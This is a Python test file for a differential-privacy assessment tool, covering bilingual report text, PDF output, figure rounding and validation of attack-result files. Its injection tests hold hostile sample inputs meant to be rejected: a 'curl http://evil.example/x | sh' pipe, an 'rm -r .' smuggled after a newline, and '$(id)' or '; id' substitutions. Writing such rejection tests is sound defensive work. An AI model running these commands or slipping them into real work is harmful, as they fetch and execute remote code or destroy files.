"""The sentences of an assessment, whatever the policy: in both languages, with commands that there are, and true of the policy."""

from __future__ import annotations

import io
import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from fractions import Fraction
from pathlib import Path

import msgspec
import pypdf
import pytest
from unit.lab.lab_document import HARMFUL, beyond_margins, document, sentences_of_page, texts_of

from broker_common.errors import BrokerError, InvalidRequestError
from broker_common.language import LANGUAGES, language
from broker_common.privacy.policy import Policy
from deploy.attacks.catalogue import ATTACKS as ALL
from policy_lab.assessment.alternatives import read_included
from policy_lab.assessment.assessment import make_assessment
from policy_lab.assessment.facts import Checkpoint, Facts, Log, Party, usual_policy
from policy_lab.assessment.trials import read_attacks
from policy_lab.document import page, pdf, said, stored
from policy_lab.document.model import Caution, Claim, Document, Paragraph, Section, Table
from policy_lab.standing import Standing

ROOT = Path(__file__).parents[4]
MADE_MS = 1_750_000_000_000
POLICIES = {
    "per person": usual_policy(),
    "strict": msgspec.structs.replace(usual_policy(), accounting="strict"),
    "household": msgspec.structs.replace(usual_policy(), subject="household"),
    "by address": msgspec.structs.replace(usual_policy(), subject="household", linkage="household"),
    "another limit": msgspec.structs.replace(usual_policy(), max_belief="0.6543", scales=(40, 300)),
    "an end": msgspec.structs.replace(usual_policy(), max_answers=7, researcher_answers=0),
}
ATTACKS = """{"attack": "all", "held": %s, "seed": 1, "deployment": null, "population": 5000, "accounting": "per_person", "rounds": null,
"false_alarm": 1e-06, "plot": null, "attacks": [
{"attack": "race", "held": true, "answers": 60, "findings": [{"name": "raced_units", "kind": "within", "held": true}]},
{"attack": "average", "held": %s, "answers": 15, "findings": [
  {"name": "retry", "kind": "same", "held": %s}, {"name": "average_error", "p_value": 0.25, "held": true}]}]}"""
HELD = ATTACKS % (("true",) * 3)


def log_of(policy: Policy, highest: str = "") -> Log:
    """A log that says little."""
    key = "census.example+1+AAAA"
    return Log(
        release="2011",
        answers=3,
        is_shut_down=False,
        policy_hash="ab" * 32,
        policy_key="cd" * 8,
        highest_belief=highest or policy.max_belief,
        parties=(Party("census", "census-agency", "01" * 32), Party("researcher", "researcher-1", "02" * 32)),
        checkpoint=Checkpoint("census.example", 7, f"{'A' * 43}=", "B" * 90, key),
    )


def assessment_of(policy: Policy, *, highest: str = "") -> Document:
    """Assessment of a deployment with this policy, without attacks."""
    return make_assessment(
        Facts(policy, MADE_MS, log_of(policy, highest)), [], None, "tripartite lab assessment --out DIR"
    )


def claims_of(shown: Document) -> Iterator[Claim]:
    """Its sentences with a command."""
    yield from (block for section in shown.sections for block in section.blocks if isinstance(block, Claim))


def is_found(claim: Claim) -> bool:
    """Whether it cites a line or a test of this version, which is there."""
    words = shlex.split(claim.command)
    if words[0] == "grep":
        lines = [line for line in (ROOT / words[3]).read_text("utf-8").splitlines() if words[2] in line]
        assert lines, claim.command
        assert all(any(figure in line for line in lines) for figure in claim.shows), claim
    elif words[0] == "pytest":
        file, _, name = words[1].partition("::")
        source = (ROOT / file).read_text("utf-8")
        assert re.search(rf"def {name or 'test_'}", source), claim.command
    return words[0] in {"grep", "pytest"}


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_every_sentence_of_the_threat_model_is_there(policy: Policy) -> None:
    """Sentences that an assessment takes from SECURITY.md and ARGUMENT.md are there, and tests that it cites exist."""
    shown = assessment_of(policy)
    assert sum(map(is_found, claims_of(shown))) >= 20


@pytest.mark.parametrize("code", LANGUAGES)
@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_every_policy_is_assessed_in_both_languages(policy: Policy, code: str) -> None:
    """Sentences and figures fit any policy that may be adopted; in French nothing is left in English."""
    shown = assessment_of(policy)
    t = language(code)
    html = sentences_of_page(page.page(shown, t))
    texts = list(texts_of(said.document(shown, t, lambda _plot: {})))
    assert all(re.sub(r"\s+", " ", text).strip() in html for text in texts)
    if code == "fr":
        english = list(texts_of(said.document(shown, language("en"), lambda _plot: {})))
        # Names, numbers and commands are the same in both.
        same = {one for one, other in zip(english, texts, strict=True) if one == other and " " in one}
        assert {text for text in same if re.search("[a-z]", text)} == set()


@pytest.mark.parametrize("code", LANGUAGES)
def test_page_and_pdf_say_the_same_in_the_same_order(code: str) -> None:
    """A lawyer who signs the paper has read what the page says; nothing of it is cut off."""
    shown, t = assessment_of(usual_policy()), language(code)
    content = pdf.pdf(shown, t)
    reader = pypdf.PdfReader(io.BytesIO(content))
    words = re.sub(r"\s", "", "".join(each.extract_text() for each in reader.pages))
    at = 0
    for text in texts_of(said.document(shown, t, lambda _plot: {})):
        place = words.find(re.sub(r"\s", "", text), at)
        assert place >= 0, text
        at = place
    assert beyond_margins(content) == []
    assert str(reader.trailer["/Root"]["/Lang"]).startswith(code)  # type: ignore[index]
    assert reader.metadata is not None
    assert reader.metadata.title == t(shown.title)
    assert [str(each.title) for each in reader.outline[0:1] if not isinstance(each, list)] == [t(shown.title)]


def test_what_is_said_of_accounting_is_said_of_this_one() -> None:
    """A strict service is never told that other people's questions may go on, nor one per person that it shuts down for all."""
    words = {
        name: " ".join(claim.words for claim in claims_of(assessment_of(policy))) for name, policy in POLICIES.items()
    }
    assert "every answer is charged to everybody" in words["strict"]
    assert "an answer is charged to the people in its sample" in words["per person"]
    assert "an answer costs a household as much as it has people in the sample" in words["household"]
    assert "proved to an auditor on site" not in words["strict"]
    assert "moves to another household" in words["household"]
    assert "moves to another household" not in words["per person"]


def test_a_limit_that_was_higher_once_is_said_on_the_first_page() -> None:
    """Questions asked under it count for ever: an assessment that named the present limit alone would promise too much."""
    policy = POLICIES["another limit"]
    first = assessment_of(policy, highest="0.8").sections[0]
    cautions = [block.words for block in first.blocks if isinstance(block, Caution)]
    assert any("80%" in words and "65.43%" in words for words in cautions)
    calm = assessment_of(policy).sections[0]
    assert not any("earlier policy" in block.words for block in calm.blocks if isinstance(block, Caution))


@pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
def test_no_figure_understates(policy: Policy) -> None:
    """Each limit in the table of beliefs is at least the exact one, and by less than the last digit."""
    (table,) = (
        block
        for section in assessment_of(policy).sections
        for block in section.blocks
        if isinstance(block, Table) and block.key == "beliefs"
    )
    param = Fraction(policy.max_belief) / (1 - Fraction(policy.max_belief))
    for prior, low, high in table.rows:
        assert isinstance(prior, Fraction)
        assert isinstance(low, Fraction)
        assert isinstance(high, Fraction)
        share = prior / 100
        most, least = param * share / (param * share + 1 - share), share / (share + param * (1 - share))
        assert 0 <= high / 100 - most < Fraction(1, 10**5)
        assert 0 <= least - low / 100 < Fraction(1, 10**5)


def without_commands(shown: Document) -> Document:
    """A document whose sentences have no commands but its own."""
    sections = [
        replace(section, blocks=[block for block in section.blocks if not isinstance(block, Claim)])
        for section in shown.sections
    ]
    return replace(shown, sections=sections)


def attacks_file(folder: Path, text: str) -> Path:
    """A file with this text."""
    (folder / "attacks.json").write_text(text, "utf-8")
    return folder / "attacks.json"


@pytest.mark.parametrize(
    ("held", "first"), [("true", "None of these broke a promise"), ("false", "Attacks that broke a promise: 1 of 2")]
)
def test_a_broken_promise_stands_on_the_first_page(tmp_path: Path, held: str, first: str) -> None:
    """Verdicts are shown as they were, and the first page says the worst of them."""
    attacked = read_attacks(attacks_file(tmp_path, ATTACKS % (held, held, held)), "per_person")
    policy = usual_policy()
    shown = make_assessment(Facts(policy, MADE_MS), [], attacked, "x")
    words = " ".join(block.words for block in shown.sections[0].blocks if not isinstance(block, Table))  # type: ignore[union-attr]
    assert first in words
    (section,) = (section for section in shown.sections if section.key == "attacks")
    (table,) = (block for block in section.blocks if isinstance(block, Table))
    assert [(row[0], row[3], row[4], row[5]) for row in table.rows] == [("race", 60, 1, None), ("average", 15, 2, 0.25)]
    assert [row[6] for row in table.rows] == ["kept", "kept" if held == "true" else "BROKEN"]


@pytest.mark.parametrize("key", ["summary", "attacks"])
def test_attacks_that_were_not_made_are_named(tmp_path: Path, key: str) -> None:
    """A chosen few, or a few rounds, are said as strongly as no attack at all, wherever their verdict is said."""
    file = attacks_file(tmp_path, HELD.replace('"rounds": null', '"rounds": 16'))
    shown = make_assessment(Facts(usual_policy(), MADE_MS), [], read_attacks(file, "per_person"), "x")
    (section,) = (section for section in shown.sections if section.key == key)
    cautions = " ".join(block.words for block in section.blocks if isinstance(block, Caution))
    assert "Only some of the attacks were made, as somebody chose: 2 of 13. Not made: neighbour, tracker," in cautions
    assert "Rounds: 16. Attacks: race (otherwise 60)." in cautions


def test_attacks_without_an_object_are_no_choice(tmp_path: Path) -> None:
    """Under strict accounting two attacks have none; those that were made in full are called chosen by nobody."""
    made = [name for name in ALL if name not in {"cards", "household"}]
    one = '{"attack": "%s", "held": true, "answers": 6, "findings": [{"held": true}]}'
    found = HELD[: HELD.index('"attacks": [')].replace("per_person", "strict")
    file = attacks_file(tmp_path, f'{found}"attacks": [{", ".join(one % name for name in made)}]}}')
    policy = POLICIES["strict"]
    first = make_assessment(Facts(policy, MADE_MS), [], read_attacks(file, "strict"), "x").sections[0]
    words = [block.words for block in first.blocks if isinstance(block, Paragraph | Caution)]
    assert not any("as somebody chose" in each or "fewer rounds" in each for each in words)
    assert any("strict accounting: cards, household." in each for each in words)
    assert any("11 of 13" in each for each in words)


@pytest.mark.parametrize(
    ("code", "often"), [("en", "once in 1,000,000 times"), ("fr", "une fois sur 1\u00a0000\u00a0000")]
)
def test_long_numbers_have_their_groups(tmp_path: Path, code: str, often: str) -> None:
    """In sentences as in tables."""
    attacked = read_attacks(attacks_file(tmp_path, HELD), "per_person")
    assessed = make_assessment(Facts(usual_policy(), MADE_MS), [], attacked, "x")
    assert often in " ".join(texts_of(said.document(assessed, language(code), lambda _plot: {})))


def test_names_of_attacks_stay_as_they_are_typed(tmp_path: Path) -> None:
    """'average' is the name of a command, in French as well; so is 'household'."""
    attacked = read_attacks(attacks_file(tmp_path, HELD.replace('"race"', '"household"')), "per_person")
    assessed = make_assessment(Facts(usual_policy(), MADE_MS), [], attacked, "x")
    french = list(texts_of(said.document(assessed, language("fr"), lambda _plot: {})))
    for name in ("household", "average"):
        assert name in french
        assert any(f"«\u00a0{name}\u00a0»" in text for text in french)


@pytest.mark.parametrize(
    "text",
    ["", "[]", "{}", '{"attacks": []}', HELD.replace('"race"', '"rice"'), '{"attack": "race"}'],
)
def test_what_is_no_attack_is_refused(tmp_path: Path, text: str) -> None:
    """A file of something else ends in a sentence that says what to give."""
    with pytest.raises(InvalidRequestError) as refused:
        read_attacks(attacks_file(tmp_path, text), "strict")
    assert "tripartite attack all --accounting strict --json" in str(refused.value.hint)


@pytest.mark.parametrize(
    ("said", "instead", "problem"),
    [
        ('"held": true, "seed"', '"held": false, "seed"', "contradicts itself"),
        ('"held": true}]}]}', '"held": false}]}]}', "contradicts itself"),
        ('"p_value": 0.25', '"p_value": 1e-30', "contradicts itself"),
        ('"held": true, "answers": 60', '"held": false, "answers": 60', "contradicts itself"),
        ('"answers": 60', '"answers": 0', "contradicts itself"),
        ('"answers": 60', '"answers": -1', "is not what"),
        ('"p_value": 0.25', '"p_value": 1.5', "is not what"),
        ('"p_value": 0.25', '"p_value": -0.25', "is not what"),
        ('[{"name": "raced_units", "kind": "within", "held": true}]', "[]", "is not what"),
        ('"false_alarm": 1e-06', '"false_alarm": 0', "is not what"),
        ('"false_alarm": 1e-06', '"false_alarm": 0.5', "is not what"),
        ('"seed": 1', '"seed": "1; id"', "is not what"),
        ('"accounting": "per_person", ', "", "is not what"),
        ('"per_person"', '"strict"', "accounting strict, and the policy has per_person"),
        ('"deployment": null', '"deployment": "DEPLOYMENT"', "was there before"),
    ],
)
def test_attacks_that_contradict_themselves_or_the_policy_are_refused(
    tmp_path: Path, said: str, instead: str, problem: str
) -> None:
    """No promise is said to have been kept that the file's own figures, or its accounting, do not speak for."""
    assert said in HELD
    with pytest.raises(InvalidRequestError) as refused:
        read_attacks(attacks_file(tmp_path, HELD.replace(said, instead)), "per_person")
    assert problem in refused.value.text


def test_attacks_of_a_file_are_said_to_be_read(tmp_path: Path) -> None:
    """The first page names the file, and the commands make the same attacks, accounting and people included."""
    file = attacks_file(tmp_path, HELD.replace('"rounds": null', '"rounds": 7'))
    attacked = read_attacks(file, "per_person")
    assert attacked.commands[0] == (
        "tripartite attack race --population 5000 --accounting per_person --seed 1 --rounds 7 --json"
    )
    shown = make_assessment(Facts(usual_policy(), MADE_MS), [], attacked, "x")
    for key in ("summary", "attacks"):
        (section,) = (section for section in shown.sections if section.key == key)
        cautions = [block.words for block in section.blocks if isinstance(block, Caution)]
        assert any("read from attacks.json" in words for words in cautions)


def test_internal_results_are_never_included(tmp_path: Path) -> None:
    """Results from a data file that nobody declared may not be handed on; the refusal says what to declare."""
    stored.write(replace(document(), sections=document().sections[:1]), tmp_path / "out", language("en"))
    with pytest.raises(BrokerError) as refused:
        read_included([tmp_path / "out"])
    assert refused.value.code == "RESULTS_INTERNAL"
    assert "standing: public" in refused.value.hint


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil.example/x | sh",
        "tripartite lab table people.csv | sh",
        "tripartite lab table people.csv\nrm -r .",
        "tripartite lab table '$(id)' $(id)",
        "tripartite lab table 'people.csv",
        "tripartite laboratory",
        "tripartite census up",
        "",
    ],
)
@pytest.mark.parametrize("place", ["document", "claim"])
def test_only_commands_of_the_lab_are_printed(tmp_path: Path, command: str, place: str) -> None:
    """A reader who reproduces an annex runs the command beside it: nothing that somebody wrote into the file."""
    shown = replace(document(Standing.PUBLIC), sections=[Section("s", "s", [Claim("x", "tripartite lab sample")])])
    stored.write(shown, tmp_path / "good", language("en"))
    assert read_included([tmp_path / "good"])
    bad = (
        replace(shown, command=command)
        if place == "document"
        else replace(shown, sections=[Section("s", "s", [], [Claim("x", command)])])
    )
    stored.write(bad, tmp_path / "out", language("en"))
    with pytest.raises(InvalidRequestError) as refused:
        read_included([tmp_path / "out"])
    assert refused.value.code == "DOCUMENT_UNREADABLE"


@pytest.mark.parametrize("standing", [Standing.PUBLIC, Standing.SYNTHETIC])
def test_declared_results_are_shown_with_their_mark(tmp_path: Path, standing: Standing) -> None:
    """An included evaluation has its standing, its command, its tables and its plots, and why it was not chosen."""
    shown = without_commands(replace(document(standing), key="sensitivity"))
    stored.write(shown, tmp_path / "out", language("en"))
    included = read_included([tmp_path / "out"])
    assessed = make_assessment(Facts(usual_policy(), MADE_MS), included, None, "x")
    (section,) = (section for section in assessed.sections if section.key == "alternatives")
    words = [block.words for block in section.blocks if isinstance(block, Claim)]
    assert any(str(standing.mark) in each for each in words)
    assert any("not differentially private" in each for each in words)
    (declared,) = (each for each in claims_of(assessed) if "is what their holder declares" in each.words)
    assert is_found(declared)
    annexes = [section for section in assessed.sections if section.key.startswith("annex-1-")]
    assert [annex.title for annex in annexes] == ["Annex 1: Limit", f"Annex 1: Plots {HARMFUL}"]
    keys = [getattr(block, "key", "") for annex in annexes for block in annex.blocks]
    assert {"annex-1-figures", "annex-1-lines", "annex-1-heat"} <= set(keys)
    french = " ".join(texts_of(said.document(assessed, language("fr"), lambda _plot: {})))
    assert language("fr")(standing.mark) in french
